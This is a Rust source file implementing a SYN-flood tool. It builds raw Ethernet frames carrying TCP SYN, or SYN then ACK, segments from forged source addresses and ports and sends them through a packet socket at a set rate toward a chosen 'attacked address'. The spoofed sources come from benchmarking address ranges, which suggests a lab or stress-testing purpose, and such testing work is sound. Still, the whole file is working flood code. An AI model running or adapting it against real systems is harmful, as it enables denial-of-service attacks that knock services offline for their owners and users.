//! Forged TCP segments from made-up sources, written as frames.
#![allow(unsafe_code, reason = "a packet socket's address has no safe constructor")]

use std::{
    io, mem,
    net::{IpAddr, Ipv4Addr, Ipv6Addr, SocketAddr},
    thread,
    time::{Duration, Instant},
};

use etherparse::PacketBuilder;
use serde::{Deserialize, Serialize};
use socket2::{Domain, SockAddr, Socket, Type};

const HEADROOM_BYTES: usize = 128;
/// How often the rate is evened out.
const TICK: Duration = Duration::from_millis(1);
/// Segments per second.
const SLOW: u32 = 10_000;
/// Of a slow flood, in one tick.
const BURST: u64 = 64;

/// What each source sends.
#[derive(Clone, Copy, PartialEq, Eq, Debug, clap::ValueEnum)]
pub enum Mode {
    /// A SYN.
    Syn,
    /// A SYN, then an ACK as if a handshake had been completed.
    SynAck,
}

impl Mode {
    /// As on the command line.
    pub fn as_str(self) -> &'static str {
        match self {
            Self::Syn => "syn",
            Self::SynAck => "syn-ack",
        }
    }
}

/// What a flood does.
#[derive(Clone, Debug)]
pub struct Plan {
    /// The attacked address.
    pub to: SocketAddr,
    /// Link-layer address of the next hop.
    pub mac: [u8; 6],
    /// Where frames go out.
    pub interface: String,
    /// What each source sends.
    pub mode: Mode,
    /// Segments per second.
    pub rate: u32,
    /// How long.
    pub time: Duration,
}

/// What was sent.
#[derive(Clone, Copy, PartialEq, Eq, Debug, Serialize, Deserialize)]
pub struct Report {
    /// Frames that the kernel took.
    pub sent: u64,
}

/// Sends at the plan's rate, or as fast as it can where that is slower.
pub fn run(plan: &Plan) -> io::Result<Report> {
    let socket = Socket::new(Domain::PACKET, Type::RAW, None)?;
    let index = rustix::net::netdevice::name_to_index(&socket, &plan.interface)?;
    let address = link_address(index.cast_signed())?;
    let (start, mut sent, mut frame) = (Instant::now(), 0, Vec::with_capacity(HEADROOM_BYTES));
    while start.elapsed() < plan.time {
        let due = u64::try_from(start.elapsed().as_micros() * u128::from(plan.rate) / 1_000_000).unwrap_or(u64::MAX);
        // A slow one that was kept waiting does not make up for it in a burst that overflows the receiver's queue.
        let due = if plan.rate <= SLOW { due.min(sent + BURST) } else { due };
        while sent < due && start.elapsed() < plan.time {
            frame.clear();
            write_frame(plan, sent, &mut frame)?;
            match socket.send_to(&frame, &address) {
                Ok(_) => sent += 1,
                Err(error) if error.raw_os_error() == Some(libc::ENOBUFS) => break,
                Err(error) => return Err(error),
            }
        }
        thread::sleep(TICK);
    }
    Ok(Report { sent })
}

/// Sources count through 198.18.0.0/15 (RFC 2544) and 2001:2::/48 (RFC 5180), ports through 1024 and up.
fn write_frame(plan: &Plan, number: u64, frame: &mut Vec<u8>) -> io::Result<()> {
    let (source, is_ack) = match plan.mode {
        Mode::Syn => (number, false),
        Mode::SynAck => (number / 2, number % 2 == 1),
    };
    let low = u32::try_from(source & 0x1_ffff).expect("17 bits");
    let port = 1024 + u16::try_from((source >> 17) % 64_000).expect("less than 64 000");
    let link = PacketBuilder::ethernet2([2, 0, 0, 0, 0, 1], plan.mac);
    let network = match plan.to.ip() {
        IpAddr::V4(to) => link.ipv4(Ipv4Addr::from_bits(0xc612_0000 | low).octets(), to.octets(), 64),
        IpAddr::V6(to) => link.ipv6(Ipv6Addr::from_bits((0x2001_0002_u128 << 96) | u128::from(low)).octets(), to.octets(), 64),
    };
    let tcp = network.tcp(port, plan.to.port(), 1, 64_240);
    let tcp = if is_ack { tcp.ack(1) } else { tcp.syn() };
    tcp.write(frame, &[]).map_err(io::Error::other)
}

pub(super) fn link_address(interface: i32) -> io::Result<SockAddr> {
    let length = libc::socklen_t::try_from(mem::size_of::<libc::sockaddr_ll>()).expect("a socket address is small");
    // SAFETY: `init` fills the storage, which is larger, with a whole sockaddr_ll and says its length.
    let ((), address) = unsafe {
        SockAddr::try_init(|storage, storage_length| {
            let link = storage.cast::<libc::sockaddr_ll>();
            (*link).sll_family = libc::sa_family_t::try_from(libc::AF_PACKET).expect("17");
            (*link).sll_ifindex = interface;
            *storage_length = length;
            Ok(())
        })?
    };
    Ok(address)
}
